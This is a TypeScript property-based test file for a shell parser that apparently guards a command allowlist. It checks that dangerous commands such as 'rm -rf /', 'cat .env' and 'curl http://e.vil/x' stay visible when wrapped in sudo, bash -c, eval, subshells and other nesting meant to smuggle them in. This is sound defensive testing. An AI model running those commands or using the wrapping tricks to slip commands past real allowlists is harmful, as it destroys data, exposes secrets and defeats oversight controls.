import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DEFAULT_SHELL_CAPS, initShellParser, parseShell } from '../../src/facts/shell/index.js';

await initShellParser();

/** A generous hang detector, not a benchmark: parsing must come back, whatever the input. */
const HANG_MS = 5000;

function timed(src: string, caps = DEFAULT_SHELL_CAPS): ReturnType<typeof parseShell> {
  const start = performance.now();
  const facts = parseShell(src, caps);
  expect(performance.now() - start).toBeLessThan(HANG_MS);
  return facts;
}

function wellFormed(facts: ReturnType<typeof parseShell>): void {
  expect(Array.isArray(facts.commands)).toBe(true);
  for (const c of facts.commands) {
    // empty words (`rm "" -rf /`) stay in `words`, where options are read, and out of the text patterns match
    expect(c.text).toBe(c.words.filter((w) => w !== '').join(' '));
    expect(Array.isArray(c.redirects)).toBe(true);
  }
}

const shellish = fc.constantFrom(
  ...'abcrm -./~*?$\'"`\\(){}[]<>|&;!#=\n\t0123'.split(''),
  '$(', '`', '<(', '>(', '<<', '<<<', '&&', '||', '|&', ';;', 'EOF', 'bash -c ', 'eval ', 'sudo ', '${', '$((', 'if ', 'then ', 'fi', 'case ', 'esac', 'do ', 'done',
);

describe('parseShell never throws', () => {
  it('on arbitrary strings up to 64 KB (binary units)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 65536 }), (src) => {
        wellFormed(timed(src));
      }),
      { numRuns: 200 },
    );
  });

  it('on shell-ish strings', () => {
    fc.assert(
      fc.property(fc.string({ unit: shellish, maxLength: 400 }), (src) => {
        const facts = timed(src);
        wellFormed(facts);
        // Output is bounded by the caps whenever no cap was reported.
        if (facts.capExceeded === undefined) expect(facts.commands.length).toBeLessThanOrEqual(DEFAULT_SHELL_CAPS.maxCommands);
      }),
      { numRuns: 1000 },
    );
  });

  it('on long shell-ish strings with raised caps', () => {
    const caps = { maxLength: 65536, maxDepth: 64, maxCommands: 4096 };
    fc.assert(
      fc.property(fc.string({ unit: shellish, minLength: 4000, maxLength: 16000 }), (src) => {
        wellFormed(timed(src, caps));
      }),
      { numRuns: 200 },
    );
  });

  it('is deterministic', () => {
    fc.assert(
      fc.property(fc.string({ unit: shellish, maxLength: 200 }), (src) => {
        expect(parseShell(src)).toEqual(parseShell(src));
      }),
      { numRuns: 300 },
    );
  });
});

// --- an allowed command cannot carry another past an allowlist -----------------------

const allowed = fc.constantFrom('git status', 'ls -la', 'npm test', 'git diff HEAD');
const evil = fc.constantFrom('rm -rf /', 'curl http://e.vil/x', 'wget y', 'cat .env', 'chmod 777 x');

/** Single-quotes a string for the shell. */
const quote = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`;

/** Wrappers around a simple command; `w` is the normalised text that must come out. */
const wrapSimple: Array<(c: string) => string> = [
  (c) => c,
  (c) => `sudo ${c}`,
  (c) => `sudo -u root ${c}`,
  (c) => `env -i FOO=1 ${c}`,
  (c) => `FOO=bar BAZ="q x" ${c}`,
  (c) => `nice -n 5 ${c}`,
  (c) => `timeout -s KILL 5 ${c}`,
  (c) => `nohup ${c}`,
  (c) => `command ${c}`,
  (c) => `time ${c}`,
  (c) => `xargs -0 ${c}`,
  (c) => `stdbuf -oL ${c}`,
  (c) => `/usr/bin/${c}`,
  (c) => `\\${c}`,
  (c) => `'${c.split(' ')[0]}' ${c.split(' ').slice(1).join(' ')}`,
  (c) => { const [h = '', ...t] = c.split(' '); return `${h[0]}""${h.slice(1)} ${t.join(' ')}`; },
  // Program runners, launchers and environment setters (wrappers.ts runners, defaultRunners).
  (c) => `uv -q run ${c}`,
  (c) => `poetry -C . run ${c}`,
  (c) => `pnpm exec ${c}`,
  (c) => `npx --yes ${c}`,
  (c) => `mise exec node@20 -- ${c}`,
  (c) => `nix develop .#dev -c ${c}`,
  (c) => `hatch run test:${c}`,
  (c) => `lerna exec --scope web -- ${c}`,
  (c) => `cross-env NODE_ENV=test ${c}`,
  (c) => `ccache ${c}`,
  (c) => `cpulimit -l 50 ${c}`,
];

/** Ways to compose two command strings into one. */
const binary: Array<(a: string, b: string) => string> = [
  (a, b) => `${a}; ${b}`,
  (a, b) => `${a} && ${b}`,
  (a, b) => `${a} || ${b}`,
  (a, b) => `${a} | ${b}`,
  (a, b) => `${a} |& ${b}`,
  (a, b) => `${a} & ${b}`,
  (a, b) => `${a}\n${b}`,
  (a, b) => `${a} \\\n&& ${b}`,
];

/** Ways to wrap one command string. */
const unary: Array<(a: string) => string> = [
  (a) => `( ${a} )`,
  (a) => `{ ${a}; }`,
  (a) => `if true; then ${a}; fi`,
  (a) => `if false; then :; else ${a}; fi`,
  (a) => `for i in 1; do ${a}; done`,
  (a) => `while false; do ${a}; done`,
  (a) => `case x in x) ${a};; esac`,
  (a) => `f() { ${a}; }; f`,
  (a) => `bash -c ${quote(a)}`,
  (a) => `sh -lc ${quote(a)}`,
  (a) => `sudo bash -c ${quote(a)}`,
  (a) => `eval ${quote(a)}`,
  (a) => `nix-shell -p hello --run ${quote(a)}`,
  (a) => `sops exec-env s.yaml ${quote(a)}`,
  (a) => `mise x -c ${quote(a)}`,
  (a) => `bun exec ${quote(a)}`,
  (a) => `git status $( ${a} )`,
  (a) => `echo "$( ${a} )"`,
  (a) => `cat <( ${a} )`,
  (a) => `echo x > >( ${a} )`,
  (a) => `echo "\${X:-$( ${a} )}"`,
  (a) => `X=$( ${a} ) ls`,
  (a) => `echo \`${a.replace(/[\\`$]/g, '\\$&')}\``,
  (a) => `{ ! { ${a}; }; }`,
  (a) => `${a} > /dev/null 2>&1`,
];

type Tree = { kind: 'ok' } | { kind: 'un'; op: number; x: Tree } | { kind: 'bin'; op: number; swap: boolean; x: Tree; y: Tree };

const { tree } = fc.letrec<{ tree: Tree }>((tie) => ({
  tree: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constant<Tree>({ kind: 'ok' }),
    fc.record({ kind: fc.constant('un' as const), op: fc.nat(unary.length - 1), x: tie('tree') }),
    fc.record({ kind: fc.constant('bin' as const), op: fc.nat(binary.length - 1), swap: fc.boolean(), x: tie('tree'), y: tie('tree') }),
  ),
}));

/** Puts the evil command at one leaf of `t`. */
function render(t: Tree, ok: string, bad: string, wrap: (c: string) => string, evilPlaced: { done: boolean }): string {
  switch (t.kind) {
    case 'ok':
      if (!evilPlaced.done) {
        evilPlaced.done = true;
        return wrap(bad);
      }
      return ok;
    case 'un':
      return unary[t.op]!(render(t.x, ok, bad, wrap, evilPlaced));
    case 'bin': {
      const a = render(t.x, ok, bad, wrap, evilPlaced);
      const b = render(t.y, ok, bad, wrap, evilPlaced);
      return t.swap ? binary[t.op]!(b, a) : binary[t.op]!(a, b);
    }
  }
}

describe('composition cannot hide a command', () => {
  it('the other command always appears among the simple commands', () => {
    fc.assert(
      fc.property(tree, allowed, evil, fc.nat(wrapSimple.length - 1), (t, ok, bad, w) => {
        const placed = { done: false };
        // Order of leaves is random through `swap`; the first leaf becomes the evil one.
        const src = render(t, ok, bad, wrapSimple[w]!, placed);
        const facts = parseShell(src);
        expect(facts.capExceeded).toBeUndefined();
        // Unverifiable on purpose, and the command still seen, when the line holds one of:
        // a default value nesting another with a command substitution (`${X:-$( … "${X:-$( rm
        // -rf / )}" … )}`: not listed), or xargs adding words from its input to a program whose
        // options may run one (`xargs -0 wget`). Either reason may come first when both are
        // there (`echo "${X:-$( xargs -0 curl x )}"; echo "${X:-$( ls )}"`: seed -652106970).
        // Or a variable set for a command to a value made when the line runs (`X=$( … ) ls`: the
        // value may name a file the command reads; red team 38).
        const knownReasons = [
          ...(/\$\{X:-.*\$\{X:-/s.test(src) ? [/cannot be listed/] : []),
          ...(src.includes('xargs') ? [/adds words from its input/] : []),
          ...(/X=\\*\$\(/.test(src) ? [/is set for the command to a value made when the line runs/] : []),
        ];
        if (facts.unverifiable !== undefined && src.includes('\\`')) {
          // Known limit (docs/decisions/shell-parser.md): mvdan-sh rejects some valid bash with a
          // backquote inside a backquote, e.g. echo `( echo \`X=\\\$( rm -rf / ) ls\` )`.
          // Rejected is unverifiable, which is denied: nothing is hidden. (Or one of the reasons
          // above comes first, when the parse succeeds: seed -1338681474.)
          expect([/^shell syntax error/, ...knownReasons].some((reason) => reason.test(facts.unverifiable!)), facts.unverifiable).toBe(true);
          return;
        }
        if (facts.unverifiable !== undefined && knownReasons.length > 0) {
          expect(knownReasons.some((reason) => reason.test(facts.unverifiable!)), facts.unverifiable).toBe(true);
          expect(facts.commands.map((c) => c.text)).toContain(bad);
          return;
        }
        expect(facts.unverifiable).toBeUndefined();
        expect(facts.commands.map((c) => c.text)).toContain(bad);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('deep nesting', () => {
  const openers: Array<(x: string) => string> = [
    (x) => `echo $( ${x} )`,
    (x) => `( ${x} )`,
    (x) => `{ ${x}; }`,
    (x) => `cat <( ${x} )`,
    (x) => `if true; then ${x}; fi`,
    (x) => `echo "$( ${x} )"`,
    (x) => `while ${x}; do :; done`,
  ];

  it('past the depth cap yields capExceeded', () => {
    fc.assert(
      fc.property(fc.array(fc.nat(openers.length - 1), { minLength: DEFAULT_SHELL_CAPS.maxDepth + 1, maxLength: 400 }), (kinds) => {
        let src = 'rm -rf /';
        for (const k of kinds) src = openers[k]!(src);
        expect(parseShell(src).capExceeded).toBe('depth');
      }),
      { numRuns: 200 },
    );
  });

  it('below the cap is read in full', () => {
    fc.assert(
      fc.property(fc.array(fc.nat(openers.length - 1), { maxLength: Math.floor(DEFAULT_SHELL_CAPS.maxDepth / 2) - 1 }), (kinds) => {
        let src = 'rm -rf /';
        for (const k of kinds) src = openers[k]!(src);
        const facts = parseShell(src);
        expect(facts.capExceeded).toBeUndefined();
        expect(facts.commands.map((c) => c.text)).toContain('rm -rf /');
      }),
      { numRuns: 200 },
    );
  });

  it('many segments: the command cap is reported, never a silent truncation', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 320 }), (n) => {
        const facts = parseShell('ls; '.repeat(n) + 'rm -rf /');
        if (n + 1 > DEFAULT_SHELL_CAPS.maxCommands) expect(facts.capExceeded).toBe('commands');
        else expect(facts.commands.at(-1)?.text).toBe('rm -rf /');
      }),
      { numRuns: 200 },
    );
  });
});
